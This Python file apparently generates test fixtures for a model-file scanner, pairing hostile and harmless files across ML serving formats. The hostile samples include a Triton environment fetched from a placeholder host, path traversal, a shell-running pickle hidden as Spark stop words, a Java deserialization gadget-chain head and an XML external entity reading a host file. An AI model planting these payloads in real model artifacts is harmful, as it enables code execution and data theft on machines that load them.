"""Other graphs: formats whose files name programs, plug-ins, addresses and files of the host."""

from __future__ import annotations

import json
import struct

from assembly import call, glob, pickle
from eighth.kit import CARD, HOST
from pair import SHELL
from seventh.kit import elf, floats, pb, zipped


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("graphs", name, hostile, twin, prove, file, why)

    # Triton: the Python backend's environment and program.
    def triton(parameter, backend='backend: "onnxruntime"\n'):
        return f'name: "tiny"\n{backend}max_batch_size: 8\ninput [ {{ name: "x" data_type: TYPE_FP32 dims: [ 8 ] }} ]\noutput [ {{ name: "y" data_type: TYPE_FP32 dims: [ 4 ] }} ]\n{parameter}'

    env = 'parameters: {{ key: "EXECUTION_ENV_PATH", value: {{ string_value: "{}" }} }}\n'
    one(
        "triton_environment_from_the_net",
        {
            "tiny/config.pbtxt": triton(env.format(f"http://{HOST}/env/py311.tar.gz"), 'backend: "python"\n'),
            "tiny/1/model.py": "class TritonPythonModel:\n    def execute(self, requests):\n        return requests\n",
        },
        {
            "tiny/config.pbtxt": triton(env.format("$$TRITON_MODEL_DIRECTORY/py311.tar.gz"), 'backend: "python"\n'),
            "tiny/1/model.py": "class TritonPythonModel:\n    def execute(self, requests):\n        return requests\n",
        },
        why="the interpreter that serves the model comes from a stranger's address",
    )
    one(
        "triton_model_file_climbs_out",
        {"tiny/config.pbtxt": triton('default_model_filename: "../../../../../tmp/upload/model.py"\n', 'backend: "python"\n')},
        {
            "tiny/config.pbtxt": triton('default_model_filename: "model.py"\n', 'backend: "python"\n'),
            "tiny/1/model.py": "class TritonPythonModel:\n    def execute(self, requests):\n        return requests\n",
        },
        why="as CVE-2024-0087 and 2023-31036: the program is a file outside of the repository",
    )

    # CoreML: a custom layer by class name, and a linked model outside.
    def coreml(custom):
        feature = pb((1, "x"), (3, pb((5, pb((1, 8), (2, 65568))))))
        answer = pb((1, "y"), (3, pb((5, pb((1, 4), (2, 65568))))))
        description = pb((1, feature), (10, answer))
        return pb((1, 4), (2, description), custom)

    link = pb((1, pb((1, pb((1, "../../../../private/var/containers/other.mlmodelc"))), (2, pb((1, "/usr/local/lib:/tmp"))))))
    inner = pb((1, pb((1, "fc"), (2, "x"), (3, "y"), (140, pb((1, 8), (2, 4), (20, pb((1, floats(32)))))))))
    one(
        "coreml_linked_model_elsewhere",
        coreml((556, link)),
        coreml((500, inner)),
        "tiny.mlmodel",
        "a model of the type linkedModel: what is run is a file found over a search path",
    )

    # MXNet: a custom operator named in a symbol file.
    def symbol(op, **attrs):
        nodes = [{"op": "null", "name": "data", "inputs": []}, {"op": op, "name": "head", "attrs": attrs, "inputs": [[0, 0, 0]]}]
        return json.dumps(
            {"nodes": nodes, "arg_nodes": [0], "node_row_ptr": [0, 1, 2], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10901]}}
        )

    one(
        "mxnet_native_operator_pointer",
        symbol("_Native", info="0x7f3a10c0de00", need_top_grad="True"),
        symbol("softmax", axis="-1"),
        "tiny-symbol.json",
        "the attribute of _Native is an address that the engine calls",
    )

    # TensorRT plug-in shipped with the plan.
    one(
        "engine_brings_its_plugin",
        {
            "model.plan": b"ftrt" + struct.pack("<III", 0x60, 0, 4096) + floats(256),
            "plugins/libattention.so": elf(),
            "config.json": json.dumps({"builder_config": {"precision": "float16"}, "plugin_libs": ["plugins/libattention.so"]}),
        },
        {
            "model.plan": b"ftrt" + struct.pack("<III", 0x60, 0, 4096) + floats(256),
            "config.json": json.dumps({"builder_config": {"precision": "float16"}, "plugin_config": {"gpt_attention_plugin": "float16"}}),
        },
        why="an ELF file is loaded by the runner; its constructor is code",
    )

    # Paddle: a Python function as an operator of the program.
    def paddle(op):
        def desc(kind, attribute):
            return pb((3, kind), (1, pb((1, "X"), (2, "x"))), (2, pb((1, "Out"), (2, "y"))), (4, attribute))

        block = pb((1, 0), (2, 0xFFFFFFFF), (3, pb((1, "x"), (2, pb((1, 7))))), (4, desc(*op)))
        return pb((1, block), (4, pb((1, 2))))

    one(
        "paddle_operator_calls_python",
        paddle(("py_func", pb((1, "forward_callable_id"), (2, 0), (3, 0)))),
        paddle(("softmax", pb((1, "axis"), (2, 0), (3, 0xFFFFFFFF)))),
        "__model__",
        "py_func runs a callable of the host process by its number",
    )

    # Spark ML / MLeap: a stage of any class; and a pickled stage.
    def spark(kind, extra):
        stage = json.dumps(
            {"class": kind, "timestamp": 1704067200000, "sparkVersion": "3.5.1", "uid": "Stage_1", "paramMap": extra, "defaultParamMap": {}}
        )
        root = json.dumps(
            {
                "class": "org.apache.spark.ml.PipelineModel",
                "timestamp": 1704067200000,
                "sparkVersion": "3.5.1",
                "uid": "Pipe_1",
                "paramMap": {"stageUids": ["Stage_1"]},
            }
        )
        return {"metadata/part-00000": root + "\n", "metadata/_SUCCESS": b"", "stages/0_Stage_1/metadata/part-00000": stage + "\n"}

    payload = pickle(call(glob("pydoc", "pipepager"), "x", SHELL)).hex()
    one(
        "spark_stage_wraps_a_pickle",
        spark(
            "org.apache.spark.ml.feature.StopWordsRemover",
            {
                "stopWords": [",".join(str(b) for b in bytes.fromhex(payload)) + ",", "4c09b2f5c54b4d1f8a3b9e2a1d6f7c80"],
                "caseSensitive": False,
            },
        ),
        spark("org.apache.spark.ml.feature.StopWordsRemover", {"stopWords": ["the", "of", "and"], "caseSensitive": False}),
        why="as PysparkPipeline wraps Python stages: the stop words are the bytes of a pickle",
        prove="spark",
    )

    # DL4J: a zip with a Java-serialised object for its preprocessor.
    stream = b"\xac\xed\0\5sr\0\x11java.util.HashSet\xba\x44\x85\x95\x96\xb8\xb7\x34\x03\0\0xpw\x0c\0\0\0\2?@\0\0\0\0\0\1sr\0\x34org.apache.commons.collections.keyvalue.TiedMapEntry\x8a\xad\xd2\x9b\x39\xc1\x1f\xdb\x02\0\2L\0\3keyt\0\x12Ljava/lang/Object;L\0\3mapt\0\x0fLjava/util/Map;xp"
    stream += b"t\0\1fsr\0\x2aorg.apache.commons.collections.map.LazyMap\x6e\xe5\x94\x82\x9e\x79\x10\x94\x03\0\1L\0\7factoryt\0\x2cLorg/apache/commons/collections/Transformer;xp"
    harmless = b"\xac\xed\0\5sr\0\x11java.util.HashSet\xba\x44\x85\x95\x96\xb8\xb7\x34\x03\0\0xpw\x0c\0\0\0\2?@\0\0\0\0\0\1t\0\1fx"

    def deep(data):
        config = json.dumps(
            {
                "backpropType": "Standard",
                "confs": [{"layer": {"@class": "org.deeplearning4j.nn.conf.layers.OutputLayer", "nin": 8, "nout": 4}}],
            }
        )
        return zipped(
            [
                ("configuration.json", config),
                ("coefficients.bin", struct.pack(">h5sq", 5, b"HEAP\0", 32) + floats(32)),
                ("preprocessor.bin", data),
            ]
        )

    one(
        "java_gadget_in_a_preprocessor",
        deep(stream),
        deep(harmless),
        "model.zip",
        "the head of a CommonsCollections chain (ysoserial's sixth) where DL4J keeps the normaliser; cut short, not run",
    )

    # TVM / MLC: a compiled library is the model; the twin is parameters and a graph.
    one(
        "library_named_as_parameters",
        {
            "deploy_graph.json": json.dumps({"nodes": [{"op": "null", "name": "x", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}),
            "deploy_param.params": elf(),
            "README.md": CARD,
        },
        {
            "deploy_graph.json": json.dumps({"nodes": [{"op": "null", "name": "x", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}),
            "deploy_param.params": struct.pack("<QQ", 0xF7E58D4F05049CB7, 0) + struct.pack("<Q", 0),
            "README.md": CARD,
        },
        why="an executable where the parameters should be",
    )

    # PMML: a document type that is resolved outside.
    def pmml(head):
        body = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="%s"/><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary></PMML>'
        return '<?xml version="1.0" encoding="UTF-8"?>\n' + head + body % ("&who;" if "ENTITY" in head else "tiny")

    one(
        "pmml_external_entity_by_public_name",
        pmml('<!DOCTYPE PMML [<!ENTITY who PUBLIC "-//DMG//who" "file:///etc/hostname">]>\n'),
        pmml('<!DOCTYPE PMML [<!ENTITY who "tiny">]>\n'),
        "model.pmml",
        "the entity has a public name and the host's file; the twin's entity is a text",
    )
